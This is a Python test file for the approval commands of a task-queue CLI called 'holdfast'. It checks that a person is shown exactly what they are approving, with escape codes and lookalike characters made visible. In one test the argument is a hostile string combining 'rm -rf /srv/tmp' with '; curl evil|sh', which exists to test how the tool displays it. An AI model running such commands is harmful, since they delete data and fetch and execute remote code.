"""``holdfast approvals``, ``approve``, ``reject`` and ``answer``."""

from __future__ import annotations

import itertools
import json
import re

import pytest

from holdfast import Approval, Holdfast, TaskState
from tests.cli.commands.support import at_terminal, bring, holdfast, only, watching, work_off


async def asked(url: str, name: str, *args: str) -> tuple[str, str]:
    """Bring a task to its question; return both ids."""
    task_id = await bring(url, name, *args, to=TaskState.WAITING)
    async with Holdfast(url) as hold:
        [approval] = await hold.approvals(task_id)
    return task_id, approval.id


async def read(url: str, approval_id: str) -> Approval:
    async with Holdfast(url) as hold:
        found = await hold.store.approval(approval_id)
    assert found is not None
    return found


async def test_what_is_asked_is_listed(url: str) -> None:
    task_id, approval_id = await asked(url, "deploy", "billing")
    guarded, vault = await asked(url, "guarded")
    listed = holdfast("approvals", url=url)
    head, first, second = listed.out.splitlines()
    assert head.split() == [
        *("id", "task", "kind", "state", "question", "risk", "arguments", "asked", "expires", "may", "decide"),
    ]
    assert first.startswith(f"{approval_id[-8:]}  {task_id[-8:]}  approval  open   Deploy billing")
    assert "external_action  {" in first
    assert '{"service": "billing", "to": "eu"}' in first
    assert second.startswith(f"{vault[-8:]}  {guarded[-8:]}")
    assert second.endswith("anna")
    [one] = json.loads(holdfast("approvals", guarded[-8:], "--json", url=url).out)["approvals"]
    assert only(one, "id", "task_id", "kind", "deciders", "state") == {
        "id": vault,
        "task_id": guarded,
        "kind": "approval",
        "deciders": ["anna"],
        "state": "open",
    }
    assert len(json.loads(holdfast("approvals", "--limit", "1", "--json", url=url).out)["approvals"]) == 1


async def test_nothing_in_the_data_reaches_the_terminal(url: str) -> None:
    _, approval_id = await asked(url, "deploy", "billing")
    listed = holdfast("approvals", url=url)
    on_screen = at_terminal("approvals", url=url, types=None, columns=200, whole=True)
    question = at_terminal("approve", approval_id, url=url, types="n\n", columns=200)
    done = holdfast("approve", approval_id, url=url)
    for shown, escape in (
        (listed.out, "\\u001b"),
        (on_screen.said, "\\u001b"),
        (question.said, "\\u001b"),
        (done.said, "\ufffd"),
    ):
        assert "\x1b[31m to production?" not in shown
        assert f"Deploy billing{escape}[31m to production?" in shown
    again = holdfast("approve", approval_id, url=url)
    assert again.code == 4
    assert "\x1b" not in again.said


async def test_those_that_are_decided(url: str) -> None:
    _, approval_id = await asked(url, "deploy", "billing")
    assert holdfast("reject", approval_id, "--note", "not today", url=url).code == 0
    empty = holdfast("approvals", url=url)
    assert (empty.code, empty.out, empty.said) == (0, "", "holdfast: no open questions\n")
    for options in (("--all",), ("--state", "approved,rejected")):
        [one] = json.loads(holdfast("approvals", *options, "--json", url=url).out)["approvals"]
        assert (one["id"], one["state"], one["note"]) == (approval_id, "rejected", "not today")
    both = holdfast("approvals", "--all", "--state", "open", url=url)
    wrong = holdfast("approvals", "--state", "aproved", url=url)
    assert (both.code, wrong.code) == (2, 2)
    assert "did you mean approved?" in wrong.said


async def test_a_watcher_sees_what_changes(url: str) -> None:
    task_id, approval_id = await asked(url, "deploy", "billing")
    with watching("approvals", task_id, "--watch", "--json", url=url) as process:
        assert process.stdout is not None
        [one] = json.loads(process.stdout.readline())["approvals"]
        assert one["id"] == approval_id
        async with Holdfast(url) as hold:
            await hold.approve(approval_id, by="ann")
        assert json.loads(process.stdout.readline()) == {"approvals": []}


async def test_a_script_approves_without_being_asked(url: str) -> None:
    task_id, approval_id = await asked(url, "deploy", "billing")
    answer = holdfast("approve", approval_id[-8:], "--by", "ann", "--note", "go", url=url)
    assert (answer.code, answer.out) == (0, f"{approval_id} approved\n")
    assert answer.said.endswith(f"is approved by ann; task {task_id[-8:]} goes on\n")
    assert answer.said.count("\n") == 1
    assert (await work_off(url, task_id)).result == "billing, says ann"
    again = holdfast("approve", approval_id, "--json", url=url)
    assert (again.code, again.out) == (4, "")
    assert "was approved already, by ann" in again.said
    assert (await read(url, approval_id)).note == "go"


async def test_a_person_is_shown_what_exactly_and_asked(url: str) -> None:
    _, approval_id = await asked(url, "deploy", "billing")
    no = at_terminal("approve", approval_id[-8:], url=url, types="n\n")
    assert (no.code, no.out) == (1, "")
    for words in ("Deploy billing", "external_action", '{"service": "billing", "to": "eu"}', "This will be approved."):
        assert words in no.said
    assert (await read(url, approval_id)).state == "open"
    yes = at_terminal("approve", approval_id[-8:], "--json", url=url, types="y\n")
    assert only(json.loads(yes.out), "id", "state", "decided_by") == {
        "id": approval_id,
        "state": "approved",
        "decided_by": "tess",
    }
    again = at_terminal("approve", approval_id, url=url, types=None)
    assert again.code == 4, "and no person is asked about what cannot be done"


def row_of(said: str, label: str) -> str:
    """Return what stands beside a label, over as many lines as it takes."""
    lines = re.sub(r"\x1b\[[0-9;]*m", "", said).replace("\r", "").split("\n")
    start = next(at for at, line in enumerate(lines) if line.startswith(f"  {label} "))
    column = re.match(rf"  {label} +", lines[start]).end()  # type: ignore[union-attr]
    rest = itertools.takewhile(lambda line: line.startswith(" " * column), lines[start + 1 :])
    return "".join(line[column:].rstrip() for line in (lines[start], *rest))


async def test_every_character_of_what_is_approved_is_shown(url: str) -> None:
    service = "rm -rf /srv/tmp\u3000/  x \u0430pp " + "x y " * 3_000 + "; curl evil|sh "
    _, approval_id = await asked(url, "deploy", service)
    no = at_terminal("approve", approval_id, url=url, types="n\n", columns=77)
    shown = row_of(no.said, "arguments")
    assert json.loads(shown) == {"service": service, "to": "eu"}
    assert r"/srv/tmp\u3000/ \u0020x \u0430pp " in shown
    assert "in ASCII" not in no.said, "all of it is ASCII already"
    for command in (("approvals",), ("show", (await read(url, approval_id)).task_id)):
        listed = holdfast(*command, url=url).out
        assert r'{"service": "rm -rf /srv/tmp\u3000/ \u0020x' in listed
        assert re.search(r"\u2026 \([0-9,]+ more characters\)", listed)


async def test_other_scripts_are_shown_as_they_are_and_once_more_in_ascii(url: str) -> None:
    service = "\u0441\u043e\u0440\u0443"  # Cyrillic, and looks like "copy"
    _, approval_id = await asked(url, "deploy", service)
    no = at_terminal("approve", approval_id, url=url, types="n\n")
    assert row_of(no.said, "arguments") == f'{{"service": "{service}", "to": "eu"}}'
    assert row_of(no.said, "in ASCII") == r'{"service": "\u0441\u043e\u0440\u0443", "to": "eu"}'


async def test_yes_skips_the_question(url: str) -> None:
    _, approval_id = await asked(url, "deploy", "billing")
    answer = at_terminal("reject", approval_id, "--yes", url=url, types=None)
    assert (answer.code, answer.out) == (0, f"{approval_id} rejected\n")
    assert "Go on?" not in answer.said


async def test_only_deciders_decide(url: str) -> None:
    _, approval_id = await asked(url, "guarded")
    refused = holdfast("approve", approval_id, "--by", "ben", url=url)
    assert (refused.code, refused.out) == (4, "")
    assert "anna" in refused.said
    assert (await read(url, approval_id)).state == "open"
    assert holdfast("approve", approval_id, "--by", "anna", url=url).code == 0


@pytest.mark.parametrize(
    ("given", "meant"),
    [
        (("eu-west",), "eu-west"),
        (("3",), 3),
        (('{"region": "eu"}',), {"region": "eu"}),
        (('"3"',), "3"),
        (("3", "--text"), "3"),
        (("null",), None),
        (("NaN",), "NaN"),
    ],
)
async def test_answers(url: str, given: tuple[str, ...], meant: object) -> None:
    task_id, approval_id = await asked(url, "wonder")
    answer = holdfast("answer", approval_id[-8:], *given, url=url)
    assert (answer.code, answer.out) == (0, f"{approval_id} answered\n"), answer.said
    assert (await work_off(url, task_id)).result == [meant]


async def test_a_person_is_shown_the_answer(url: str) -> None:
    task_id, approval_id = await asked(url, "wonder")
    no = at_terminal("answer", approval_id, "3", "--text", url=url, types="n\n")
    assert no.code == 1
    assert "Which region?" in no.said
    assert "answered with the text 3" in no.said
    assert "answered with 3." in at_terminal("answer", approval_id, "3", url=url, types="n\n").said
    assert at_terminal("answer", approval_id, "3", url=url, types="y\n").code == 0
    assert (await work_off(url, task_id)).result == [3]


async def test_the_wrong_command_names_the_right_one(url: str) -> None:
    _, question = await asked(url, "wonder")
    _, approval = await asked(url, "guarded")
    doubtful = await bring(url, "pay", 5, to=TaskState.WAITING)
    async with Holdfast(url) as hold:
        [doubt] = await hold.doubts(doubtful)
    for verb, given, right in (
        ("approve", (question,), "`holdfast answer`"),
        ("answer", (approval, "yes"), "`holdfast approve` or `holdfast reject`"),
        ("reject", (doubt.approval_id or "",), "`holdfast resolve "),
    ):
        answer = holdfast(verb, *given, url=url)
        assert (answer.code, answer.out) == (2, "")
        assert answer.said.count("\n") == 1
        assert right in answer.said
    assert at_terminal("approve", question, url=url, types=None).code == 2, "no person is asked first"


@pytest.mark.parametrize("verb", ["approve", "reject", "answer"])
async def test_no_such_approval(url: str, verb: str) -> None:
    await bring(url, "greet", "you", to=TaskState.PENDING)
    more = ["yes"] if verb == "answer" else []
    for identifier in ("nowhere", "01a1e0cb-7558-7634-9d8d-51b7d89acf7f"):
        answer = holdfast(verb, identifier, *more, url=url)
        assert (answer.code, answer.out) == (3, "")
        assert answer.said.startswith(f"holdfast: no approval {identifier!r}")
